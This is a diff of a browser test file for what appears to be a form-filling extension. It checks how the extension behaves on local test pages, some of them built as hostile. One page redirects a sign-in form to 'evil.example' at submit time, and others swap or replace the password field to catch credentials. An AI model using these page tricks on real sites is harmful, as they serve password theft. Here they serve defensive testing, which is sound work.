@@ -20,6 +20,13 @@ const take = (event) => { state[event.target.name] = event.target.value; };
 const on = (types, listener) => { for (const type of types.split(" ")) form.addEventListener(type, listener, true); };
 form.addEventListener("submit", (event) => { event.preventDefault(); window.sent = { ...state }; });
 ${script}</script>`;
+/** A page that puts a new element in the place of the field that something happened to. */
+const RENEW = `const renew = (old) => { const fresh = old.cloneNode(false); fresh.value = old.value; old.replaceWith(fresh); return fresh; };`;
+/** A page whose script comes when the button was pressed once. */
+const LATE = `<!doctype html><title>Sign in</title><script async src="/late.js"></script><form>${TWO}${BUTTON}</form><script>
+window.sent = null; window.presses = 0;
+document.querySelector("button").addEventListener("click", () => { presses += 1; fetch("/pressed"); });</script>`;
+const LATE_SCRIPT = `document.querySelector("form").addEventListener("submit", (event) => { event.preventDefault(); window.sent = Object.fromEntries(new FormData(event.target)); });`;
 const BOTH = { username: "sam", password: "Correct-1" };
 
 /** @typedef {{html: string, outcome?: string, sent?: Record<string, string> | null, values?: Record<string, string>, left?: string[]}} Case */
@@ -35,6 +42,11 @@ const CASES = {
   "a page that goes to another address meanwhile": { html: page(TWO, `on("input", (event) => { if (event.target === word && word.value) requestAnimationFrame(() => history.pushState(null, "", "/elsewhere")); });`), outcome: "moved", sent: null, left: ["", ""] },
   "a form whose address changes in the last moment": { html: page(TWO, `form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared", left: ["", ""] },
 
+  "a form that would write the password into the address": { html: `<!doctype html><title>Sign in</title><form>${TWO}${BUTTON}</form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
+  "a page that puts another kind of field in the place of the password": { html: page(TWO, `on("input", (event) => { if (event.target === user) { const fresh = word.cloneNode(false); fresh.type = "text"; word.replaceWith(fresh); } });`), outcome: "changed", sent: null, left: ["", ""] },
+  "a page that gives up after it put a new field in the place of the user name": { html: page(TWO, `${RENEW} on("input", (event) => { if (event.target === user) renew(user); else word.type = "text"; });`), outcome: "changed", sent: null, left: ["", ""] },
+  "a page that puts a new field in its place whenever one is touched": { html: page(TWO, `${RENEW} on("focus", (event) => renew(event.target).removeAttribute("value"));`), outcome: "not-kept", sent: null, left: ["", ""] },
+
   "input, as Vue, Svelte and Angular do": { html: page(TWO, `on("input", take);`) },
   "input, but not while text is composed": { html: page(TWO, `let composing = false; on("compositionstart", () => { composing = true; }); on("compositionend", () => { composing = false; }); on("input", (event) => { if (!composing && !event.isComposing) take(event); });`) },
   "change, as Knockout does, and Vue where it is lazy": { html: page(TWO, `on("change", take);`) },
@@ -47,6 +59,11 @@ const CASES = {
   "key presses that are counted": { html: page(TWO, `const pressed = new Set(); on("keypress", (event) => pressed.add(event.target)); on("input", (event) => { if (pressed.has(event.target)) take(event); });`) },
   "focus before anything else": { html: page(TWO, `const entered = new Set(); on("focus", (event) => entered.add(event.target)); on("input", (event) => { if (entered.has(event.target)) take(event); });`) },
   "fields that are read-only until they have the focus": { html: page(TWO.replaceAll("<input", "<input readonly"), `on("focus", (event) => { event.target.readOnly = false; }); on("input", take);`) },
+  "fields that are read-only until they are pressed": { html: page(TWO.replaceAll("<input", "<input readonly"), `on("pointerdown", (event) => { event.target.readOnly = false; }); on("input", take);`) },
+  "a form below the fold of what scrolls within the page": { html: page(TWO, `on("input", take);`).replace("<form", `<div style="height:200px;overflow:auto"><p style="height:3000px"></p><form`) },
+  "a script that comes after the button was pressed": { html: LATE },
+  "new fields in the place of those that were written, as frameworks put there whose keys change": { html: page(TWO, `${RENEW} on("input", (event) => { take(event); renew(event.target); });`) },
+  "a new field in the place of the one that gets the focus first": { html: page(TWO, `${RENEW} let is = false; on("focus", (event) => { if (!is) { is = true; renew(event.target); } }); on("input", take);`) },
   "a list and radio buttons": {
     html: page(`<select name="domain"><option value="1">Fabrikam<option value="2">Contoso</select><label><input type="radio" name="company" value="a"> North</label><label><input type="radio" name="company" value="b"> South</label>${TWO}`, `on("input", take);`),
     values: { domain: "Contoso", company: "South", ...BOTH }, sent: { domain: "2", company: "b", ...BOTH },
@@ -61,8 +78,12 @@ const CASES = {
 for (const browser of /** @type {("chromium" | "firefox")[]} */ ((process.env.MY_APPS_BROWSERS ?? "chromium firefox").split(" "))) {
   test(`${browser}: pages hear of what is written, whatever they listen to`, { timeout: 120_000 }, async () => {
     const names = Object.keys(CASES);
+    /** @type {import("node:http").ServerResponse | undefined} */ let late;
     const server = createServer((question, answer) => {
-      const shown = CASES[names[Number(new URL(question.url ?? "/", "http://x").pathname.slice(1))] ?? ""];
+      const { pathname } = new URL(question.url ?? "/", "http://x");
+      if (pathname === "/late.js") return void (late = answer);
+      if (pathname === "/pressed" && !late?.writableEnded) late?.writeHead(200, { "content-type": "text/javascript" }).end(LATE_SCRIPT);
+      const shown = CASES[names[Number(pathname.slice(1))] ?? ""];
       answer.writeHead(shown ? 200 : 404, { "content-type": "text/html" }).end(shown?.html ?? "");
     });
     await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
@@ -71,8 +92,11 @@ for (const browser of /** @type {("chromium" | "firefox")[]} */ ((process.env.MY
       await withBrowser({ browser, extension: folder(browser), name: "listeners" }, async (running) => {
         const tab = await running.openTab("about:blank");
         for (const [number, name] of names.entries()) {
-          const { outcome = "submitted", values = BOTH, sent = values, left } = /** @type {Case} */ (CASES[name]);
-          await tab.goto(`${origin}/${number}`);
+          const { html, outcome = "submitted", values = BOTH, sent = values, left } = /** @type {Case} */ (CASES[name]);
+          if (html === LATE) {
+            await tab.evaluate((address) => void location.assign(address), `${origin}/${number}`);
+            await tab.waitFor((path) => location.pathname === path && document.querySelector("button"), "the form, before the page is complete", `/${number}`);
+          } else await tab.goto(`${origin}/${number}`);
           const seen = /** @type {any} */ (await tab.evaluate(form, { probe: {} }));
           const at = (/** @type {(control: any) => boolean} */ fits) => {
             const control = seen.controls.find(fits);
@@ -90,6 +114,8 @@ for (const browser of /** @type {("chromium" | "firefox")[]} */ ((process.env.MY
           assert.equal(result.outcome, outcome, name);
           if (outcome !== "cleared") assert.deepEqual(await tab.evaluate(() => /** @type {any} */ (window).sent), sent, name);
           const kept = await tab.evaluate(() => [...document.querySelectorAll("input")].filter((input) => input.type !== "radio").map((input) => input.value));
+          assert.ok(!(await tab.url()).includes(BOTH.password), `${name}: the password in an address`);
+          if (html === LATE) assert.equal(await tab.evaluate(() => /** @type {any} */ (window).presses), 2, `${name}: presses`);
           if (left) assert.deepEqual(kept, left, `${name}: what is left`);
         }
       });
